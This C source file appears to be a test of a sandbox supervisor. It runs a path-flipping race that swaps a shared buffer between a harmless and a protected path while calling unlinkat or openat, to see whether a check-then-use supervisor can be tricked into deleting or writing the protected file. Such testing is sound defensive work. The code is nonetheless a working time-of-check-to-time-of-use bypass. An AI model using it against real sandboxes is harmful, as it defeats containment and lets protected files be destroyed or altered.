/* sbx_race.c - the path-flipping race: one thread flips a buffer between a harmless
 * and a protected path while the main thread calls unlink (or opens for writing) on
 * it. A supervisor that checks the path and then lets the kernel read it again loses
 * within a few attempts.
 *   sbx_race unlink|open HARMLESS PROTECTED ATTEMPTS
 * Exit 0 when the protected file survived every attempt, 3 when it was hit. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char buf[4096];
static const char *harmless, *protected_path;
static atomic_int stop;

static void *flipper(void *arg)
{
	size_t hl = strlen(harmless) + 1, pl = strlen(protected_path) + 1;
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, protected_path, pl);
		memcpy(buf, harmless, hl);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t t;
	struct stat before, st;
	long attempts, i, hits = 0, harmless_done = 0;
	int open_mode;

	if (argc != 5) {
		fprintf(stderr, "usage: sbx_race unlink|open HARMLESS PROTECTED ATTEMPTS\n");
		return 2;
	}
	open_mode = strcmp(argv[1], "open") == 0;
	harmless = argv[2];
	protected_path = argv[3];
	attempts = strtol(argv[4], NULL, 10);
	if (strlen(harmless) < strlen(protected_path)) {
		fprintf(stderr, "sbx_race: the harmless path must be at least as long\n");
		return 2;
	}
	if (stat(protected_path, &before) < 0) {
		perror(protected_path);
		return 2;
	}
	memcpy(buf, harmless, strlen(harmless) + 1);
	pthread_create(&t, NULL, flipper, NULL);
	for (i = 0; i < attempts; i++) {
		if (open_mode) {
			long fd = syscall(SYS_openat, AT_FDCWD, buf, O_WRONLY | O_APPEND, 0);
			if (fd >= 0) {
				if (fstat((int)fd, &st) == 0 && st.st_ino == before.st_ino) {
					hits++;
					syscall(SYS_write, fd, "RACED\n", 6);
				} else {
					harmless_done++;
				}
				close((int)fd);
			}
		} else {
			long rc = syscall(SYS_unlinkat, AT_FDCWD, buf, 0);
			if (rc == 0) {
				if (stat(protected_path, &st) < 0) {
					hits++;
					break;
				}
				harmless_done++;
				int fd = open(harmless, O_WRONLY | O_CREAT, 0644);
				if (fd >= 0)
					close(fd);
			}
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("attempts %ld harmless %ld protected-hits %ld\n", i, harmless_done, hits);
	if (stat(protected_path, &st) < 0 || st.st_ino != before.st_ino || hits)
		return 3;
	return 0;
}
